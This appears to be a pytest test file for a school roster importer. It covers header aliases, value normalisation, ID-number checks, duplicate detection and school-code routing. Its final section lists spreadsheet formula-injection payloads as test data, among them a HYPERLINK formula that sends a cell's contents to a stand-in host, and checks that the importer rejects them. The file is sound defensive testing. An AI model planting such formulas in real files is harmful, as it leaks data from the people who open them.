"""Phase 1 of the roster import: headers, every value form of roster.md, row checks."""

from __future__ import annotations

from datetime import date

import pytest
from flask_babel import force_locale

from schoolhealth.models import mask_ids
from schoolhealth.roster.importing import (
    INVALID,
    NEW,
    UNCHANGED,
    UPDATED,
    parse_birth_date,
    parse_roster,
    read_roster,
)
from tests.roster.fixtures.rosters import HEADER_EN, HEADER_ZH, csv_bytes, id_number, pupil

BIRTH = date(2017, 5, 14)


@pytest.fixture
def school(factories):
    return factories.SchoolFactory(code="S-A")


def parse(rows, header=HEADER_ZH, *, school, year=2026, **options):
    table = read_roster(csv_bytes(header, rows), "roster.csv")
    return parse_roster(table, school=school, school_year=year, file_name="roster.csv", **options)


def errors(result):
    return [(i.line, i.column, i.key) for i in result.issues if i.is_error]


def one_value(school, column: str, text: str, header=HEADER_ZH):
    """Parse one valid pupil whose ``column`` holds ``text``; return (values, issues)."""
    row = pupil(1, with_id=False)
    row[header.index(column)] = text
    result = parse([row], header, school=school)
    return result.rows[0].values, result.issues


# --- headers ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        HEADER_ZH,
        HEADER_EN,
        [
            "全国学籍号",
            "学生姓名",
            "gender",
            "出生年月日",
            "grade level",
            "班",
            "公民身份号码",
            "联系电话",
        ],
        [
            "Student ID",
            "Student Name",
            "Gender",
            "Date of Birth",
            "Grade",
            "Class Name",
            "Resident ID",
            "监护人电话",
        ],
        ["student no", "NAME", "Sex", "DOB", "grade", "class", "身份证号码", "guardian_phone"],
        [
            "ＳＴＵＤＥＮＴ ＩＤ",
            " 姓名 ",
            "（性别）",
            "生日",
            "年级",
            "班级",
            "身份证号",
            "家长电话",
        ],
        ["学号", "姓名", "性别", "出生日期", "年级", "班级", "身份证号", "家长电话"],
    ],
    ids=["chinese", "english", "aliases-zh", "aliases-en", "case", "width-brackets", "xuehao"],
)
def test_headers_in_chinese_english_and_accepted_forms_map_to_fields(school, header):
    result = parse([pupil(1, phone="13800138000")], header, school=school)
    assert errors(result) == []
    values = result.rows[0].values
    assert values["student_number"] == "L0000000001"
    assert values["name"] == "学生1"
    assert values["sex"] == "M"
    assert values["birth_date"] == BIRTH
    assert values["grade"] == 3
    assert values["class"] == "2"
    assert values["id_number"] == id_number(BIRTH, "M", sequence=1)
    assert values["guardian_phone"] == "13800138000"
    assert result.rows[0].status == NEW


@pytest.mark.parametrize(
    ("missing", "chinese"),
    [
        ("student_number", "学籍号"),
        ("name", "姓名"),
        ("sex", "性别"),
        ("birth_date", "出生日期"),
        ("grade", "年级"),
        ("class", "班级"),
    ],
)
def test_missing_required_column_is_a_file_error_naming_it_in_both_languages(
    school, missing, chinese
):
    index = HEADER_EN.index(missing)
    header = [h for i, h in enumerate(HEADER_ZH) if i != index]
    row = [v for i, v in enumerate(pupil(1)) if i != index]
    result = parse([row], header, school=school)
    assert [i.message for i in result.file_errors] == [
        f"Required column {chinese} / {missing} is missing."
    ]
    assert result.rows == []


def test_unknown_column_is_a_warning_and_ignored(school):
    result = parse([[*pupil(1), "住校"]], [*HEADER_ZH, "备注"], school=school)
    assert errors(result) == []
    [warning] = result.issues
    assert (warning.line, warning.column, warning.severity) == (None, "备注", "warning")
    assert warning.message == "Unknown column; it is ignored."


def test_national_number_wins_over_school_number_when_both_columns_exist(school):
    header = ["学号", *HEADER_ZH]
    result = parse([["2023001", *pupil(1)]], header, school=school)
    assert errors(result) == []
    assert result.rows[0].values["student_number"] == "L0000000001"
    [warning] = result.issues
    assert (warning.key, warning.column) == ("duplicate_column", "学号")


def test_header_only_file_is_a_file_error(school):
    result = parse([], school=school)
    assert [i.key for i in result.file_errors] == ["no_rows"]


# --- value forms --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("男", "M"),
        ("女", "F"),
        ("M", "M"),
        ("F", "F"),
        ("m", "M"),
        ("f", "F"),
        ("male", "M"),
        ("Female", "F"),
        ("1", "M"),
        ("2", "F"),
        ("１", "M"),
        (" 女 ", "F"),
    ],
)
def test_sex_forms(school, text, expected):
    row = pupil(1, sex=expected)
    row[2] = text
    result = parse([row], school=school)
    assert errors(result) == []
    assert result.rows[0].values["sex"] == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2015-03-02", date(2015, 3, 2)),
        ("2015/3/2", date(2015, 3, 2)),
        ("2015.3.2", date(2015, 3, 2)),
        ("20150302", date(2015, 3, 2)),
        ("2015年3月2日", date(2015, 3, 2)),
        ("2015年03月02日", date(2015, 3, 2)),
        ("２０１５－０３－０２", date(2015, 3, 2)),
        ("42065", date(2015, 3, 2)),  # Excel serial, 1900 date system
        ("42064", date(2015, 3, 1)),
        ("42065.0", date(2015, 3, 2)),
        ("2015-03-02 00:00:00", date(2015, 3, 2)),  # a spreadsheet date cell as text
        ("2015-03-02T00:00:00", date(2015, 3, 2)),
    ],
)
def test_birth_date_forms(school, text, expected):
    values, issues = one_value(school, "出生日期", text)
    assert [i for i in issues if i.is_error] == []
    assert values["birth_date"] == expected


@pytest.mark.parametrize(
    "text",
    [
        "2015-13-01",
        "2015-02-30",
        "02/03/2015",
        "yesterday",
        "20151301",
        "61",
        "2015",
        "٤٢٠٠٠",  # Arabic-Indic digits: float() read this as the Excel serial 42000
        "٢٠١٥-03-02",
        "②⓪①⑤-03-02",
    ],
)
def test_invalid_birth_dates_are_row_errors_naming_the_column(school, text):
    row = pupil(1, with_id=False)
    row[3] = text
    result = parse([row], school=school)
    [issue] = result.issues
    assert (issue.line, issue.column, issue.value, issue.key) == (2, "出生日期", text, "date")
    assert issue.format() == f"row 2, 出生日期 '{text}': not a valid date"
    assert result.rows[0].status == INVALID


def test_excel_serial_dates_count_from_1899_12_30():
    assert parse_birth_date("45000") == date(2023, 3, 15)
    assert parse_birth_date("36526") == date(2000, 1, 1)


def test_future_birth_date_is_an_error_and_odd_age_a_warning(school):
    result = parse(
        [
            pupil(1, birth=date(2099, 1, 1), with_id=False),
            pupil(2, birth=date(1990, 1, 1), with_id=False),
        ],
        school=school,
    )
    assert [(i.line, i.key, i.severity) for i in result.issues] == [
        (2, "date_future", "error"),
        (3, "age_unusual", "warning"),
    ]
    assert [r.status for r in result.rows] == [INVALID, NEW]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("3", 3),
        ("１", 1),
        ("12", 12),
        ("三年级", 3),
        ("一年级", 1),
        ("六年级", 6),
        ("七年级", 7),
        ("九年级", 9),
        ("初一", 7),
        ("初二", 8),
        ("初三", 9),
        ("高一", 10),
        ("高二", 11),
        ("高三", 12),
    ],
)
def test_grade_forms(school, text, expected):
    values, issues = one_value(school, "年级", text)
    assert issues == []
    assert values["grade"] == expected


@pytest.mark.parametrize("text", ["0", "13", "大一", "幼儿园", "three"])
def test_invalid_grades_are_row_errors(school, text):
    values, issues = one_value(school, "年级", text)
    assert [(i.column, i.value, i.key) for i in issues] == [("年级", text, "grade")]


@pytest.mark.parametrize("text", ["3", "3班", "(3)班", "（3）班", "三班", "３班", " 3 "])
def test_class_forms(school, text):
    values, issues = one_value(school, "班级", text)
    assert issues == []
    assert values["class"] == "3"


def test_full_width_digits_and_spaces_in_student_numbers(school):
    row = pupil(1)
    row[0] = " Ｌ００００００００１２ "
    result = parse([row], school=school)
    assert errors(result) == []
    assert result.rows[0].values["student_number"] == "L0000000012"


@pytest.mark.parametrize("text", ["12345", "L-0000001", "学籍号123456", "A" * 33])
def test_malformed_student_numbers_are_errors(school, text):
    values, issues = one_value(school, "学籍号", text)
    assert [i.key for i in issues] == ["student_number"]


def test_lower_case_letters_of_student_numbers_are_folded(school):
    values, _ = one_value(school, "学籍号", "g110105201705140035")
    assert values["student_number"] == "G110105201705140035"


def test_id_number_lower_case_x_and_full_width_digits_are_normalised(school):
    birth = date(1949, 12, 31)
    row = pupil(1, sex="F", birth=birth, with_id=False)
    row[6] = "１１０１０５１９４９１２３１００２x"  # the GB 11643 example number
    result = parse([row], school=school)
    assert [i.key for i in result.issues if i.is_error] == []
    assert result.rows[0].values["id_number"] == "11010519491231002X"


def test_wrong_check_digit_is_an_error_giving_the_right_one(school):
    valid = id_number(BIRTH, "M", sequence=1)
    wrong = valid[:17] + ("0" if valid[17] != "0" else "1")
    values, issues = one_value(school, "身份证号", wrong)
    [issue] = issues
    assert (issue.column, issue.value, issue.key) == ("身份证号", mask_ids(wrong), "id_check_digit")
    assert issue.message == (
        f"the check digit should be {valid[17]} (GB 11643); the number was mistyped"
    )


@pytest.mark.parametrize(
    ("text", "key", "message"),
    [
        (
            "11010520170514003",
            "invalid_id_number",
            "not a valid ID number: 18 characters, 17 digits and a check digit",
        ),
    ],
)
def test_invalid_id_numbers_are_errors_saying_why(school, text, key, message):
    values, issues = one_value(school, "身份证号", text)
    [issue] = issues
    assert (issue.column, issue.key, issue.message) == ("身份证号", key, message)


def test_id_number_must_agree_with_birth_date_and_sex(app, school):
    row_birth = pupil(1)
    row_birth[6] = id_number(date(2016, 5, 14), "M", sequence=1)
    row_sex = pupil(2)
    row_sex[6] = id_number(BIRTH, "F", sequence=2)
    result = parse([row_birth, row_sex], school=school)
    assert [(i.line, i.key) for i in result.issues] == [
        (2, "id_birth_mismatch"),
        (3, "id_sex_mismatch"),
    ]
    assert result.issues[0].message == (
        "the ID number gives the birth date 2016-05-14, but the birth date is 2017-05-14"
    )
    # The sexes are stored as codes and named in the reader's language.
    assert result.issues[1].params == {"id_sex": "F", "sex": "M"}
    assert result.issues[1].message == "the ID number gives the sex female, but the sex is male"
    with app.test_request_context(), force_locale("zh_Hans_CN"):
        assert result.issues[1].message == "身份证号显示性别为女，但性别一栏为男"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("138 0013 8000", "13800138000"),
        ("0571-88886666", "057188886666"),
        ("１３８００１３８０００", "13800138000"),
    ],
)
def test_guardian_phone_forms(school, text, expected):
    values, issues = one_value(school, "家长电话", text)
    assert issues == []
    assert values["guardian_phone"] == expected


@pytest.mark.parametrize(
    ("text", "key"), [("call me", "phone"), ("12", "phone_length"), ("+86 138 0013 8000", "phone")]
)
def test_invalid_guardian_phones(school, text, key):
    values, issues = one_value(school, "家长电话", text)
    assert [i.key for i in issues] == [key]


@pytest.mark.parametrize(
    ("text", "expected"), [("zh", "zh"), ("en", "en"), ("EN", "en"), ("中文", "zh"), ("英文", "en")]
)
def test_guardian_language_forms(school, text, expected):
    header = [*HEADER_ZH, "家长语言"]
    result = parse([[*pupil(1), text]], header, school=school)
    assert errors(result) == []
    assert result.rows[0].values["guardian_language"] == expected


def test_invalid_guardian_language(school):
    result = parse([[*pupil(1), "fr"]], [*HEADER_ZH, "letter language"], school=school)
    assert [(i.column, i.key) for i in result.issues] == [("letter language", "language")]


def test_blank_required_cell_is_an_error_and_blank_optional_cell_is_fine(school):
    row = pupil(1, with_id=False)
    row[1] = ""
    result = parse([row, pupil(2, with_id=False)], school=school)
    assert [(i.line, i.column, i.key) for i in result.issues] == [(2, "姓名", "required")]
    assert "id_number" not in result.rows[1].values


def test_row_numbers_are_spreadsheet_rows_and_blank_lines_are_skipped(school):
    bad = pupil(3)
    bad[2] = "?"
    data = csv_bytes(HEADER_ZH, [pupil(1), [""] * 8, pupil(2), bad])
    result = parse_roster(read_roster(data, "r.csv"), school=school, school_year=2026)
    assert [r.line for r in result.rows] == [2, 4, 5]
    assert [(i.line, i.key) for i in result.issues] == [(5, "sex")]


# --- checks across rows and against the database ------------------------------------------


def test_duplicate_student_number_is_an_error_on_both_rows(school):
    first, second = pupil(1), pupil(2)
    second[0] = first[0]
    result = parse([first, pupil(3), second], school=school)
    assert [(i.line, i.key, i.message) for i in result.issues] == [
        (2, "duplicate_student_number", "the same student number is on rows 2, 4"),
        (4, "duplicate_student_number", "the same student number is on rows 2, 4"),
    ]
    assert [r.status for r in result.rows] == [INVALID, NEW, INVALID]


def test_same_id_number_on_two_pupils_is_an_error(school):
    first, second = pupil(1), pupil(2)
    second[6] = first[6]
    result = parse([first, second], school=school)
    assert [(i.line, i.key) for i in result.issues] == [
        (2, "duplicate_id_number"),
        (3, "duplicate_id_number"),
    ]


def test_id_number_of_another_pupil_in_the_database_is_an_error(school, factories):
    holder = factories.StudentFactory(  # a number no row of the file has
        school_class__school=school,
        student_number="H0000000001",
        id_number=id_number(BIRTH, "M", sequence=1),
    )
    result = parse([pupil(1)], school=school)
    [issue] = result.issues
    assert issue.key == "id_number_taken"
    assert (
        issue.message == f"this ID number is already recorded for the pupil {holder.student_number}"
    )


def test_id_number_of_a_pupil_of_another_school_does_not_name_them(school, factories):
    factories.StudentFactory(
        student_number="X00000001", id_number=id_number(BIRTH, "M", sequence=1)
    )
    result = parse([pupil(1)], school=school)
    assert [i.message for i in result.issues] == [
        "this ID number is already recorded for another pupil"
    ]


def test_student_number_of_another_school_is_an_error(school, factories):
    factories.StudentFactory(student_number="L0000000001")  # in a school of its own
    result = parse([pupil(1), pupil(2)], school=school)
    [issue] = result.issues
    assert (issue.line, issue.column, issue.key) == (2, "学籍号", "other_school")
    assert "transfer" in issue.message
    assert [r.status for r in result.rows] == [INVALID, NEW]


def test_plan_says_new_updated_and_unchanged(school, factories):
    klass = factories.SchoolClassFactory(school=school, school_year=2026, grade=3, name="2")
    same = factories.StudentFactory(
        school_class=klass,
        student_number="L0000000001",
        name="学生1",
        name_initials="xs1",
        sex="M",
        birth_date=BIRTH,
        id_number=id_number(BIRTH, "M", sequence=1),
    )
    factories.StudentFactory(
        school_class=klass,
        student_number="L0000000002",
        name="旧名字",
        name_initials="jmz",
        sex="M",
        birth_date=BIRTH,
    )
    from schoolhealth.extensions import db
    from schoolhealth.models import Enrolment

    db.session.add(Enrolment(student_id=same.id, school_year=2026, class_id=klass.id))
    db.session.commit()
    result = parse([pupil(1), pupil(2), pupil(3)], school=school)
    assert errors(result) == []
    assert [r.status for r in result.rows] == [UNCHANGED, UPDATED, NEW]
    assert result.counts() == {
        "rows": 3,
        "new": 1,
        "updated": 1,
        "unchanged": 1,
        "invalid": 0,
        "errors": 0,
        "warnings": 0,
    }


# --- several schools in one file ----------------------------------------------------------


def test_school_code_column_routes_rows_for_an_admin(factories):
    a = factories.SchoolFactory(code="A001")
    b = factories.SchoolFactory(code="B002")
    admin = factories.AdminFactory()
    header = [*HEADER_ZH, "学校代码"]
    result = parse(
        [[*pupil(1), "A001"], [*pupil(2), "B002"], [*pupil(3), "Z999"]],
        header,
        school=None,
        user=admin,
    )
    assert [r.school_id for r in result.rows[:2]] == [a.id, b.id]
    assert [(i.line, i.column, i.key) for i in result.issues] == [
        (4, "学校代码", "school_code_unknown")
    ]


def test_school_code_outside_the_users_scope_is_an_error(factories):
    mine = factories.SchoolFactory(code="A001")
    factories.SchoolFactory(code="B002")
    nurse = factories.NurseFactory(school=mine)
    header = [*HEADER_ZH, "学校标识码"]
    result = parse([[*pupil(1), "A001"], [*pupil(2), "B002"]], header, school=None, user=nurse)
    assert [(i.line, i.key) for i in result.issues] == [(3, "school_code_unknown")]


def test_school_code_must_match_the_chosen_school(school, factories):
    factories.SchoolFactory(code="B002")
    header = [*HEADER_ZH, "school_code"]
    result = parse(
        [[*pupil(1), "S-A"], [*pupil(2), "B002"], [*pupil(3), ""]], header, school=school
    )
    assert [(i.line, i.key, i.message) for i in result.issues] == [
        (3, "school_code_mismatch", "this import is for the school S-A")
    ]
    assert [r.school_id for r in result.rows] == [school.id, school.id, school.id]


def test_without_a_school_every_row_needs_a_school_code(factories):
    result = parse([pupil(1)], school=None)
    assert [i.key for i in result.issues] == ["school_code_missing"]


def test_compact_lines_reads_like_a_person_would_write_them():
    from schoolhealth.roster.importing import compact_lines

    assert compact_lines([7, 3, 4, 5, 9, 12]) == "3–5, 7, 9, 12"
    assert compact_lines(list(range(2, 400, 2)), limit=3) == "2, 4, 6 … (+196)"
    assert compact_lines([5]) == "5"


# --- spreadsheet formula injection (issue 7 §6) ----------------------------------------------


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/?"&A1)', "+1+2", "@SUM(A1:A9)", "-2+3", "＝1+1"]
)
def test_a_name_a_spreadsheet_would_run_is_refused_with_row_and_column(school, name):
    values, issues = one_value(school, "姓名", name)
    [issue] = issues
    assert (issue.line, issue.column, issue.key) == (2, "姓名", "name_formula")
    assert "formula" in issue.message
    assert "name" not in values


def test_a_name_with_a_hyphen_inside_is_still_a_name(school):
    values, issues = one_value(school, "姓名", "Anne-Marie")
    assert issues == []
    assert values["name"] == "Anne-Marie"
